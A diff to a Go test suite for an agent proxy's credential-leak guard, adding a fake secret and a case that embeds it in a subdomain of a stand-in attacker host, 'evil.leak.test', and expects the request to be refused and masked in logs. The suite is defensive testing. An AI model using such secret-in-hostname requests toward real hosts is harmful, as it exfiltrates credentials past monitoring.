@@ -31,6 +31,8 @@ import (
 const (
 	// leakGH contains only characters a URL carries as they are.
 	leakGH = "ghp_L34kT3stV4lue9f8e7d6c1b2a"
+	// leakSub is a value a host name can hold.
+	leakSub = "k7x2m9q4w8e1r5t3zz"
 	// leakTok is the value the MCP tests send JSON-escaped.
 	leakTok = "tok-<&>-M3cpL34k-5e6f7a8b9c"
 )
@@ -60,6 +62,7 @@ credentials:
   secrets:
     gh: {env: AGENTG_TEST_LEAK_GH}
     tok: {command: [printf, "%s\n", "` + leakTok + `"], timeout: 5s}
+    sub: {insecure_inline: ` + leakSub + `}    # bound nowhere: held all the same
   bindings:
     - id: gh-api
       host: api.leak.test
@@ -189,7 +192,7 @@ func startLeakEnv(t *testing.T) *leakEnv {
 		TLSClientConfig: &tls.Config{RootCAs: pool}}}
 	// Both secrets are read when the policy loads, before any use: the
 	// guard says so in agentg's log.
-	waitLogLine(t, e.a.LogFile, `"guarded":["gh","tok"]`)
+	waitLogLine(t, e.a.LogFile, `"guarded":["gh","sub","tok"]`)
 	return e
 }
 
@@ -236,7 +239,7 @@ func (e *leakEnv) noValues(t *testing.T, names ...string) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	for _, v := range []string{leakGH, leakTok} {
+	for _, v := range []string{leakGH, leakTok, leakSub} {
 		if n := strings.Count(string(logText), v); n != 0 {
 			t.Errorf("agentg's log holds a secret value %d times", n)
 		}
@@ -385,6 +388,16 @@ func TestCredLeakValues(t *testing.T) {
 		})
 	}
 
+	// A value made into a host name is refused at the CONNECT, before
+	// the name is decided or resolved; the tunnel's event masks it.
+	if _, err := e.c.Get("https://" + leakSub + ".evil.leak.test:443/x"); err == nil || !strings.Contains(err.Error(), "Forbidden") {
+		t.Fatalf("a value in a host name: %v", err)
+	}
+	waitEventOf(t, e.a, "the refused CONNECT's event", func(ev map[string]any) bool {
+		return ev["kind"] == "connect" && ev["host"] == "secret(sub).evil.leak.test" && ev["rule"] == "builtin:credential-leak" &&
+			ev["credential"] == "sub"
+	})
+
 	// The same value toward its bound host passes (it is where the value
 	// goes anyway), and the event of a path holding it masks it.
 	if st, body := e.do(t, "GET", e.apiURL+"/ok/"+leakGH, http.Header{"X-Token": {leakGH}}, nil); st != 200 {
@@ -396,7 +409,7 @@ func TestCredLeakValues(t *testing.T) {
 	waitEventOf(t, e.a, "the bound request's event", func(ev map[string]any) bool {
 		return ev["path"] == "/ok/secret(gh)" && ev["decision"] == "allow" && ev["status"] == float64(200)
 	})
-	e.noValues(t, "gh", "tok")
+	e.noValues(t, "gh", "tok", "sub")
 }
 
 // An MCP tool's arguments are checked after JSON decoding: the Go SDK
@@ -567,21 +580,21 @@ func TestCredLeakReload(t *testing.T) {
 		resp.Body.Close()
 		return resp.StatusCode
 	}
-	waitLogLine(t, a.LogFile, `"guarded":["gh","tok"]`)
+	waitLogLine(t, a.LogFile, `"guarded":["gh","sub","tok"]`)
 	if st := send("evil.leak.test", "/r/one", v1); st != 403 {
 		t.Fatalf("the first value toward an unbound host: %d", st)
 	}
 
 	os.WriteFile(file, []byte(v2+"\n"), 0o600)
 	logged, _ := os.ReadFile(a.LogFile)
-	before := bytes.Count(logged, []byte(`"guarded":["gh","tok"]`))
+	before := bytes.Count(logged, []byte(`"guarded":["gh","sub","tok"]`))
 	if err := a.Signal(syscall.SIGHUP); err != nil {
 		t.Fatal(err)
 	}
 	deadline := time.Now().Add(10 * time.Second)
 	for {
 		logged, _ = os.ReadFile(a.LogFile)
-		if bytes.Count(logged, []byte(`"guarded":["gh","tok"]`)) > before {
+		if bytes.Count(logged, []byte(`"guarded":["gh","sub","tok"]`)) > before {
 			break
 		}
 		if time.Now().After(deadline) {
